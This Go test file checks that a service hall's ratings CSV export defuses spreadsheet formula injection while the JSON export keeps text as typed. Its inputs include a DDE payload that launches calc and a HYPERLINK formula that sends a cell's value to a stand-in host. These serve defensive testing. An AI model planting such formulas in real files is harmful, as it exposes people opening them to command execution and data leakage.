package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"halld/daemon/hall"
	"halld/daemon/internal/testhall"
	"halld/daemon/journal"
)

func TestCSVCellDefusesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1":               "'=1+1",
		"+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
		"-2+3":               "'-2+3",
		"@SUM(A1)":           "'@SUM(A1)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"":                   "",
		"服务态度好=满意":           "服务态度好=满意",
		"非常满意":               "非常满意",
		"20261125T093000":    "20261125T093000",
		"'already quoted":    "'already quoted",
		" =leading space":    " =leading space",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

const ratingsYAML = `
hall:
  id: h
  name: 大厅
  region_code: "430100"
  opening_hours: [{days: [mon], open: "09:00", close: "17:00"}]
areas: [{id: a, name: 区, open_24h: true}]
services:
  - {id: s, prefix: A, name: 服务, area: a}
`

// A comment, reason, window or staff name that starts with = + - @ comes out
// of the CSV export as text, not as a live formula; the JSON export is as typed.
func TestRatingsCSVExportEscapesFormulas(t *testing.T) {
	cfg, j := testhall.Config(t, ratingsYAML), testhall.Journal(t)
	now := time.Now()
	ev := &hall.RatingSubmitted{TicketID: "t1", Number: "A001", Visit: 1, Window: "@window", Staff: "-staff",
		Service: "+svc", Level: "不满意", Reasons: nil, Comment: `=HYPERLINK("http://x.example/?"&A1,"点我")`, Channel: "api", Bad: true}
	env := hall.Envelope{ID: "e-1", Seq: 1, TS: hall.Stamp(now), Type: hall.TypeRatingSubmitted, Hall: "h"}
	body, err := hall.Encode(env, ev)
	if err != nil {
		t.Fatal(err)
	}
	if err := j.Append(context.Background(), []journal.Record{{Seq: 1, ID: env.ID, Type: env.Type, TS: now.UTC().Truncate(time.Millisecond), Body: body}}); err != nil {
		t.Fatal(err)
	}
	eng := testhall.Start(t, cfg, j).Engine // replays the rating
	s := &Server{d: Deps{Config: cfg, Engine: eng, Journal: j}}

	rec := httptest.NewRecorder()
	s.exportRatings(rec, httptest.NewRequest("GET", "/api/v1/ratings/export?format=csv", nil))
	if rec.Code != 200 {
		t.Fatalf("export: %d %s", rec.Code, rec.Body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(rec.Body.Bytes(), []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %v, %d rows:\n%s", err, len(rows), rec.Body)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s is a live formula: %q", rows[0][i], cell)
		}
	}
	got := map[string]string{}
	for i, h := range rows[0] {
		got[h] = rows[1][i]
	}
	if got["文字评价"] != "'"+ev.Comment || got["窗口"] != "'@window" || got["工作人员"] != "'-staff" || got["事项"] != "'+svc" {
		t.Fatalf("escaped cells: %q", rows[1])
	}
	if got["满意度"] != "不满意" || got["行政区划"] != "430100" {
		t.Fatalf("plain cells changed: %q", rows[1])
	}

	rec = httptest.NewRecorder()
	s.exportRatings(rec, httptest.NewRequest("GET", "/api/v1/ratings/export", nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `"文字评价":"=HYPERLINK(`) {
		t.Fatalf("JSON export must keep the text as typed: %s", rec.Body)
	}
}
